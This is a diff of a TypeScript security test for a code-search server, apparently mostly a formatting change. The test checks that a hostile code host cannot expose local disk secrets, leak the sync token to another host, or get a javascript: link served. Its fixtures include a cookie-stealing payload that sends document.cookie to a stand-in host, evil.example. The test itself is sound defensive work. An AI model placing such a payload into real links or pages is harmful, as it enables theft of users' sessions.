@@ -33,7 +33,7 @@ const TOKEN_ENV = 'TRAWL_FAULT_GITEA_TOKEN';
 const SECRET = 'DB_PASSWORD=hunter2-from-this-servers-disk';
 const SCRIPT = 'javascript:fetch(`//evil.example/?`+document.cookie)';
 
-test('a hostile code host can neither index this server\'s disk, nor get the token elsewhere, nor serve a javascript: link', async () => {
+test("a hostile code host can neither index this server's disk, nor get the token elsewhere, nor serve a javascript: link", async () => {
   const dir = tempDir('code-host-urls');
   const data = join(dir.path, 'data');
   const closers: Array<() => Promise<void>> = [];
@@ -93,7 +93,10 @@ test('a hostile code host can neither index this server\'s disk, nor get the tok
     await indexPath(secret.path, {
       dataDir: data,
       symbols: false,
-      register: async (d) => ({ repoId: api.repoId, repo: { ...localRepoMeta(d, api.repoName), displayName: 'acme/api', codeHostType: 'gitea', externalWebUrl: SCRIPT } }),
+      register: async (d) => ({
+        repoId: api.repoId,
+        repo: { ...localRepoMeta(d, api.repoName), displayName: 'acme/api', codeHostType: 'gitea', externalWebUrl: SCRIPT },
+      }),
     });
     await store.updateRepo(api.repoId, { state: 'indexed', indexedAt: new Date().toISOString() });
     await store.close();
@@ -109,7 +112,8 @@ test('a hostile code host can neither index this server\'s disk, nor get the tok
       answers.push(a);
       return a;
     };
-    const search = async (query: string) => (await ask('POST', '/api/search', { query, matches: 50 })).json.files as Array<{ repository: string; externalWebUrl?: string }>;
+    const search = async (query: string) =>
+      (await ask('POST', '/api/search', { query, matches: 50 })).json.files as Array<{ repository: string; externalWebUrl?: string }>;
     const source = (repo: string, path: string) => ask('GET', `/api/source?repo=${encodeURIComponent(repo)}&path=${encodeURIComponent(path)}`);
 
     // Before the sync: the index written without the checks is served, but not its page.
@@ -118,7 +122,10 @@ test('a hostile code host can neither index this server\'s disk, nor get the tok
     assert.equal(before.status, 200);
     assert.equal(before.json.repoExternalWebUrl, undefined);
     assert.equal(before.json.externalWebUrl, undefined);
-    assert.deepEqual((await ask('GET', '/api/repos')).json.map((r: { externalWebUrl?: string }) => r.externalWebUrl), [undefined]);
+    assert.deepEqual(
+      (await ask('GET', '/api/repos')).json.map((r: { externalWebUrl?: string }) => r.externalWebUrl),
+      [undefined],
+    );
 
     // The sync, as an operator runs it.
     process.env[TOKEN_ENV] = TOKEN;
@@ -134,7 +141,8 @@ test('a hostile code host can neither index this server\'s disk, nor get the tok
     assert.deepEqual(offered, [], 'the other host is never contacted, so never offered the token');
     // What the operator is told: each refusal, the count, the exit status; the plain-http host and the pages left out, once each.
     assert.equal(run.code, 1, `${run.stdout}${run.stderr}`);
-    for (const name of ['api', 'web', 'tool']) assert.match(run.stdout, new RegExp(`connection gt: 127\\.0\\.0\\.1/acme/${name}: REFUSED, skipped: clone URL .* refused`));
+    for (const name of ['api', 'web', 'tool'])
+      assert.match(run.stdout, new RegExp(`connection gt: 127\\.0\\.0\\.1/acme/${name}: REFUSED, skipped: clone URL .* refused`));
     assert.match(run.stdout, /sync done: 2 indexed, 0 up to date, 0 failed, 3 refused,/);
     assert.equal(run.stderr.split('\n').filter((l) => l.includes('over plain http')).length, 1, run.stderr);
     assert.equal(run.stderr.split('\n').filter((l) => l.includes('web page URL that is not http(s)')).length, 2, run.stderr);
